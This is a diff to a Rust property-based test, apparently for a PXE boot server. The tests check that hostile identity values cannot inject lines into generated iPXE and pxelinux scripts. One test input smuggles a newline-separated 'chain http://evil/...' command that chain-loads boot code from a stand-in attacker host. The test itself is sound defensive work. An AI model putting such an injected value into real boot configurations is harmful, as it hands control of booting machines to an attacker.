@@ -35,9 +35,12 @@ fn hostile_bytes() -> impl Strategy<Value = Vec<u8>> {
     let interesting =
         prop::sample::select(b"\n\r\t\0 ${}:;&|#\"'`\\%+=?/[]-_.aZ9\xff\xfe\xc3\xa9".to_vec());
     prop_oneof![
-        prop::collection::vec(interesting, 0..64),
+        prop::collection::vec(interesting.clone(), 0..64),
         prop::collection::vec(any::<u8>(), 0..64),
         (1usize..4096).prop_map(|n| vec![b'\n'; n]),
+        // 4 KiB of everything at once, past the 128 characters pxed keeps.
+        prop::collection::vec(interesting, 3900..4200),
+        Just(b"${".repeat(2048)),
         Just(b"x\nchain http://evil/${net0/mac}\nboot".to_vec()),
     ]
 }
@@ -63,10 +66,10 @@ proptest! {
             );
             let id = Identity::from_query(&query).unwrap();
             let want = benign(mac);
-            prop_assert_eq!(
-                structure(&c.policy.ipxe_script(&id, &base).text),
-                structure(&c.policy.ipxe_script(&want, &base).text)
-            );
+            let (got, benign) = (c.policy.ipxe_script(&id, &base).text, c.policy.ipxe_script(&want, &base).text);
+            prop_assert_eq!(structure(&got), structure(&benign));
+            // Comment lines too: a value must not start a line of its own.
+            prop_assert_eq!(got.lines().count(), benign.lines().count());
             if let (Some(got), Some(want)) = (c.policy.pxelinux_config(&id, &base, None), c.policy.pxelinux_config(&want, &base, None)) {
                 prop_assert_eq!(structure(&got.text), structure(&want.text));
                 prop_assert_eq!(got.text.lines().count(), want.text.lines().count());
